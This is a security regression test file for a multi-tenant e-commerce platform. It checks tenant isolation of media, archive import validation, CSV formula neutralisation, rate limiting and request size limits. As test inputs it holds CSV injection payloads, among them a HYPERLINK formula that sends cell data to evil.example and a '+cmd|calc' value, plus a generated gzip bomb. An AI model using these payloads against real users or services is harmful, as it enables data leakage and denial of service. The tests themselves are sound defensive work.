/**
 * Control-plane findings of the outside security review (issue 15) on real Postgres and Redis: a store's media
 * operations cannot touch another store's files (one store-scoped storage handle), an archive import refuses rows
 * naming media the archive did not bring, a gzip bomb is refused with 413 while inflating as a stream, and JSON
 * bodies above 1 MiB are refused with 413 before they are parsed.
 */
import { gzipSync } from 'node:zlib';
import { sql } from '@storeloom/db';
import { importProductsCsv, UNLIMITED_CATALOG } from '@storeloom/catalog';
import { parse } from 'csv-parse/sync';
import { createLogger } from '@storeloom/log';
import { createStorefrontApp } from '../../storefront/src/app.ts';
import { createControlPlaneApp } from '../src/app.ts';
import { loadArchiveIntoStore, type VerifiedArchive } from '@storeloom/stores';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createProduct, createStore, signup, startTestPlatform, type TestPlatform } from '../../../test/helpers/platform.ts';

const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 1, 2, 3, 4]);
const imageForm = () => {
  const f = new FormData();
  f.set('file', new File([PNG], 'photo.png', { type: 'image/png' }));
  return f;
};

describe('control-plane security (issue 15)', () => {
  let p: TestPlatform;
  let attacker: { cookie: string };
  let victim: { cookie: string };
  let attackerStore: { id: string };
  let victimStore: { id: string };
  let victimKey: string;

  const schemaOf = async (storeId: string) =>
    (await p.db.control.selectFrom('stores').select('schema_name').where('id', '=', storeId).executeTakeFirstOrThrow()).schema_name;

  beforeAll(async () => {
    p = await startTestPlatform();
    attacker = await signup(p);
    victim = await signup(p);
    attackerStore = await createStore(p, attacker.cookie);
    victimStore = await createStore(p, victim.cookie);
    const product = await createProduct(p, victim.cookie, victimStore.id);
    const up = await p.request('POST', `/api/v1/stores/${victimStore.id}/products/${product.id}/images`, { cookie: victim.cookie, form: imageForm() });
    expect(up.status).toBe(201);
    const t = p.db.tenant(await schemaOf(victimStore.id));
    victimKey = (await t.selectFrom('images').select('storage_key').executeTakeFirstOrThrow()).storage_key as string;
    expect(await p.services.storage.get(victimKey)).not.toBeNull();
  });
  afterAll(async () => {
    await p?.close();
  });

  it("never deletes another store's file, whatever key a row of this store holds", async () => {
    // A tampered image row and logo setting in the attacker's store naming the victim's key.
    const product = await createProduct(p, attacker.cookie, attackerStore.id);
    const t = p.db.tenant(await schemaOf(attackerStore.id));
    const image = await t.selectFrom('images').selectAll().executeTakeFirst();
    expect(image).toBeUndefined();
    const up = await p.request('POST', `/api/v1/stores/${attackerStore.id}/products/${product.id}/images`, { cookie: attacker.cookie, form: imageForm() });
    expect(up.status).toBe(201);
    await t.updateTable('images').set({ storage_key: victimKey }).where('id', '=', up.body.id).execute();
    const del = await p.request('DELETE', `/api/v1/stores/${attackerStore.id}/products/${product.id}/images/${up.body.id}`, { cookie: attacker.cookie });
    expect(del.status).toBe(204);
    expect(await p.services.storage.get(victimKey)).not.toBeNull();

    // Same through product deletion and the logo.
    const second = await p.request('POST', `/api/v1/stores/${attackerStore.id}/products/${product.id}/images`, { cookie: attacker.cookie, form: imageForm() });
    await t.updateTable('images').set({ storage_key: victimKey }).where('id', '=', second.body.id).execute();
    expect((await p.request('DELETE', `/api/v1/stores/${attackerStore.id}/products/${product.id}`, { cookie: attacker.cookie })).status).toBe(204);
    expect(await p.services.storage.get(victimKey)).not.toBeNull();
    await t
      .insertInto('store_settings')
      .values({ key: 'logo', value: JSON.stringify({ key: victimKey, url: 'http://x/y.png' }), updated_at: new Date() })
      .onConflict((oc) => oc.column('key').doUpdateSet({ value: JSON.stringify({ key: victimKey, url: 'http://x/y.png' }) }))
      .execute();
    expect((await p.request('DELETE', `/api/v1/stores/${attackerStore.id}/settings/logo`, { cookie: attacker.cookie })).status).toBe(200);
    expect(await p.services.storage.get(victimKey)).not.toBeNull();
  });

  it('refuses an archive whose rows name media it does not carry, before writing anything', async () => {
    // The attacker's own export, as rows: one product and one image whose file is in the archive.
    const source = await createStore(p, attacker.cookie);
    const product = await createProduct(p, attacker.cookie, source.id);
    expect((await p.request('POST', `/api/v1/stores/${source.id}/products/${product.id}/images`, { cookie: attacker.cookie, form: imageForm() })).status).toBe(
      201,
    );
    const sourceSchema = await schemaOf(source.id);
    const rowsOf = async (table: string) =>
      (await sql<{ row: Record<string, unknown> }>`select to_jsonb(x) as row from ${sql.table(`${sourceSchema}.${table}`)} x`.execute(p.db.kysely)).rows.map(
        (r) => r.row,
      );
    const [products, variants, images] = [await rowsOf('products'), await rowsOf('variants'), await rowsOf('images')];
    const ownName = String(images[0]?.storage_key).split('/')[1] as string;
    const archiveOf = (imageRows: Record<string, unknown>[]): VerifiedArchive => ({
      manifest: {
        store: { id: source.id },
        tables: {
          products: { file: 'data/products.json', rows: products.length, columns: Object.keys(products[0] ?? {}) },
          variants: { file: 'data/variants.json', rows: variants.length, columns: Object.keys(variants[0] ?? {}) },
          images: { file: 'data/images.json', rows: imageRows.length, columns: Object.keys(imageRows[0] ?? {}) },
        },
      } as never,
      data: { products, variants, images: imageRows },
      media: new Map([[ownName, PNG]]),
    });

    const target = await createStore(p, attacker.cookie);
    const targetSchema = await schemaOf(target.id);
    const tampered = images.map((r) => ({ ...r, storage_key: victimKey }));
    await expect(
      loadArchiveIntoStore(p.db, p.services.storage, archiveOf(tampered), { id: target.id, schema_name: targetSchema }, UNLIMITED_CATALOG),
    ).rejects.toMatchObject({
      code: 'archive_invalid',
    });
    expect(await p.db.tenant(targetSchema).selectFrom('products').select('id').execute()).toHaveLength(0);
    expect(await p.services.storage.get(`${target.id}/${ownName}`)).toBeNull();

    // The honest archive loads, and its image lives under the new store's own key with the archive's bytes.
    await loadArchiveIntoStore(p.db, p.services.storage, archiveOf(images), { id: target.id, schema_name: targetSchema }, UNLIMITED_CATALOG);
    const loaded = await p.db.tenant(targetSchema).selectFrom('images').select('storage_key').executeTakeFirstOrThrow();
    expect(loaded.storage_key).toBe(`${target.id}/${ownName}`);
    expect(new Uint8Array((await p.services.storage.get(loaded.storage_key as string))?.body ?? [])).toEqual(PNG);
  });

  it('refuses a gzip bomb on import-archive with 413 archive_too_large', async () => {
    // ~300 MiB of zeros inside a tar, a few hundred KB compressed: passes the 25 MB upload limit, inflates past the cap.
    const bomb = gzipSync(Buffer.alloc(300 * 1024 * 1024), { level: 9 });
    expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
    const res = await p.request('POST', '/api/v1/stores/import-archive?name=Bomb&slug=bomb-shop', {
      cookie: attacker.cookie,
      binary: new Uint8Array(bomb),
      contentType: 'application/gzip',
    });
    expect(res.status).toBe(413);
    expect(res.body.error.code).toBe('archive_too_large');
    expect(await p.db.control.selectFrom('stores').select('id').where('slug', '=', 'bomb-shop').execute()).toHaveLength(0);
  });

  it("serves uploads with default-src 'none'; sandbox, not the console's CSP (issue 15 low)", async () => {
    const res = await p.request('GET', `/media/${victimKey}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    // The console itself keeps its own policy.
    expect((await p.request('GET', '/healthz')).headers.get('content-security-policy')).toContain("script-src 'self'");
  });

  it('/metrics: in production only with METRICS_TOKEN, never on a store host name, on both apps (issue 15 low)', async () => {
    const logger = createLogger({ level: 'silent' });
    const metricsOf = (app: { request: (url: string, init?: RequestInit) => Response | Promise<Response> }, host: string, token?: string) =>
      app.request(`http://${host}/metrics`, { headers: { host, ...(token ? { authorization: `Bearer ${token}` } : {}) } });
    // Control plane, production without a token: no /metrics at all.
    const prodOpen = createControlPlaneApp({ ...p.services, config: { ...p.services.config, metricsWithoutToken: false } }, logger);
    expect((await metricsOf(prodOpen, 'localhost:3000')).status).toBe(404);
    // With a token: 401 without it, 200 with it, and 404 on a store's host name even with it.
    const token = 'metrics-token-0123456789abcdef';
    const prod = createControlPlaneApp({ ...p.services, config: { ...p.services.config, metricsWithoutToken: false, metricsToken: token } }, logger);
    expect((await metricsOf(prod, 'localhost:3000')).status).toBe(401);
    const ok = await metricsOf(prod, 'localhost:3000', token);
    expect(ok.status).toBe(200);
    expect(await ok.text()).toContain('storeloom_http_requests_total');
    expect((await metricsOf(prod, 'shop.localhost:3000', token)).status).toBe(404);

    // Storefront: never on a store's host (it is that store's page space), in production only with the token.
    const store = await createStore(p, victim.cookie);
    const host = `${(await p.db.control.selectFrom('stores').select('slug').where('id', '=', store.id).executeTakeFirstOrThrow()).slug}.localhost`;
    const sfOpen = createStorefrontApp(p.db, logger, { rootDomain: 'localhost', metricsWithoutToken: false });
    expect((await metricsOf(sfOpen, '10.0.0.5:3001')).status).toBe(404);
    const sf = createStorefrontApp(p.db, logger, { rootDomain: 'localhost', metricsWithoutToken: false, metricsToken: token });
    const onStore = await metricsOf(sf, host, token);
    expect(onStore.status).toBe(404);
    expect(await onStore.text()).not.toContain('storeloom_http');
    expect((await metricsOf(sf, '10.0.0.5:3001')).status).toBe(401);
    const internal = await metricsOf(sf, '10.0.0.5:3001', token);
    expect(internal.status).toBe(200);
    expect(await internal.text()).toContain('storeloom_http_requests_total');
  });

  it('writes every CSV with formula cells neutralised (product export and store archives), and an export re-imports exactly (issue 15 low)', async () => {
    const store = await createStore(p, attacker.cookie);
    const evil = {
      title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      vendor: '+cmd|calc',
      productType: '@SUM(1+1)',
      tags: ['-2+3'],
      seoTitle: "'=already quoted",
    };
    await createProduct(p, attacker.cookie, store.id, { ...evil, variants: [{ sku: '-SKU-1', price: 100 }] });
    const res = await p.request('GET', `/api/v1/stores/${store.id}/products/export.csv`, { cookie: attacker.cookie });
    expect(res.status).toBe(200);
    // As a spreadsheet sees the file: no cell starts with a formula character; each such cell carries the leading '.
    const sheet = parse(res.text, { columns: true }) as Record<string, string>[];
    expect(sheet).toHaveLength(1);
    const row = sheet[0] as Record<string, string>;
    for (const cell of Object.values(row)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(row).toMatchObject({
      Title: `'${evil.title}`,
      Vendor: "'+cmd|calc",
      Type: "'@SUM(1+1)",
      Tags: "'-2+3",
      'SEO Title': "''=already quoted",
      'Variant SKU': "'-SKU-1",
    });
    // The importer reads the cells back as the merchant wrote them.
    const target = await createStore(p, attacker.cookie);
    const counters = await importProductsCsv(p.db.tenant(await schemaOf(target.id)), res.text, { currency: 'USD', limits: UNLIMITED_CATALOG });
    expect(counters.errors).toEqual([]);
    const copy = await p.db
      .tenant(await schemaOf(target.id))
      .selectFrom('products')
      .selectAll()
      .executeTakeFirstOrThrow();
    expect({ title: copy.title, vendor: copy.vendor, productType: copy.product_type, tags: copy.tags, seoTitle: copy.seo_title }).toEqual(evil);
  });

  it('a stranger failing sign-ins or asking for resets from other addresses cannot lock the owner out (issue 15 low)', async () => {
    const app = createControlPlaneApp({ ...p.services, config: { ...p.services.config, trustProxy: true } }, createLogger({ level: 'silent' }));
    const post = (path: string, body: unknown, ip: string) => {
      const text = JSON.stringify(body);
      return app.request(`http://localhost:3000/api/v1${path}`, {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          'content-length': String(Buffer.byteLength(text)),
          origin: 'http://localhost:3000',
          'x-forwarded-for': ip,
        },
        body: text,
      });
    };
    const owner = await signup(p);
    // Twelve wrong passwords from twelve addresses, then five more from one address (that one is slowed down).
    for (let i = 0; i < 12; i++)
      expect((await post('/auth/login', { email: owner.email, password: `wrong guess ${i}` }, `198.51.100.${i + 1}`)).status).toBe(401);
    const fromOne = [];
    for (let i = 0; i < 8; i++) fromOne.push((await post('/auth/login', { email: owner.email, password: `wrong again ${i}` }, '198.51.100.200')).status);
    expect(fromOne.slice(0, 5)).toEqual([401, 401, 401, 401, 401]);
    expect(fromOne.at(-1)).toBe(429);
    // The owner, from their own address, signs in at once.
    expect((await post('/auth/login', { email: owner.email, password: 'correct horse battery' }, '203.0.113.7')).status).toBe(200);

    // Reset requests: the stranger's address is limited; the owner's request still goes through and the mailed link works.
    const resets = [];
    for (let i = 0; i < 6; i++) resets.push((await post('/auth/password-reset', { email: owner.email }, '198.51.100.200')).status);
    expect(resets).toEqual([202, 202, 202, 202, 202, 429]);
    expect((await post('/auth/password-reset', { email: owner.email }, '203.0.113.7')).status).toBe(202);
    const [mail] = await p.services.mail.list({ to: owner.email, limit: 1 });
    const token = /reset-password\?token=([a-z2-7]+)/.exec(mail?.text ?? '')?.[1] as string;
    expect((await post('/auth/password-reset/confirm', { token, password: 'a fresh passphrase here' }, '203.0.113.7')).status).toBe(200);
  });

  it('refuses JSON bodies over 1 MiB with 413 before parsing; uploads keep their own larger limit', async () => {
    const big = JSON.stringify({ name: 'x'.repeat(2 * 1024 * 1024), slug: 'big-body', currency: 'USD' });
    const res = await p.request('POST', '/api/v1/stores', { cookie: attacker.cookie, rawBody: big });
    expect(res.status).toBe(413);
    expect(res.body.error.code).toBe('payload_too_large');
    const csv = `Handle,Title,Variant SKU,Variant Price\n${Array.from({ length: 40_000 }, (_, i) => `h-${i},Title ${i},SKU-${i},1.00`).join('\n')}\n`;
    expect(csv.length).toBeGreaterThan(1024 * 1024);
    const imp = await p.request('POST', `/api/v1/stores/${attackerStore.id}/imports?filename=p.csv`, {
      cookie: attacker.cookie,
      rawBody: csv,
      contentType: 'text/csv',
    });
    expect(imp.status).not.toBe(413);
  });
});
